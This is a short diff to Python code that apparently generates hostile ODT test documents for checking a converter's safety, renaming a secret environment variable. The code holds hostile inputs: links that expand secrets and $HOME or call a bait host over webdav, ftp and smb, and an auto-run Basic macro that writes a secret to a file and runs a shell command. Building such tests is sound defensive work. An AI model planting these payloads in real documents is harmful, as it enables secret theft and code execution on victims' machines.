@@ -87,7 +87,7 @@ def _pptx_links(bait: Bait) -> bytes:
 
 
 def _odt_links(bait: Bait) -> bytes:
-    hrefs = [*bait.links, "vnd.sun.star.expand:$FILEWRIGHT_HOSTILE_SECRET", f"vnd.sun.star.expand:{bait.url}/$HOME",
+    hrefs = [*bait.links, "vnd.sun.star.expand:$HOSTILE_SECRET", f"vnd.sun.star.expand:{bait.url}/$HOME",
              f"vnd.sun.star.pkg://file%3A%2F%2F{bait.file}/x", f"vnd.sun.star.webdav://{bait.host}/x",
              f"ftp://{bait.host}/x", f"smb://{bait.host}/x"]  # fmt: skip
     body = "<text:p>Harmless</text:p>" + "".join(
@@ -116,7 +116,7 @@ def _odt_scripts(bait: Bait) -> bytes:
         for event in ("dom:load", "office:load-finished")
     )
     source = (
-        f'Sub Go\n Open "{bait.pwned}" For Output As #1\n Print #1, Environ("FILEWRIGHT_HOSTILE_SECRET")\n Close #1\n'
+        f'Sub Go\n Open "{bait.pwned}" For Output As #1\n Print #1, Environ("HOSTILE_SECRET")\n Close #1\n'
         f' Shell "touch {bait.pwned}"\nEnd Sub'
     )
     scripts = (
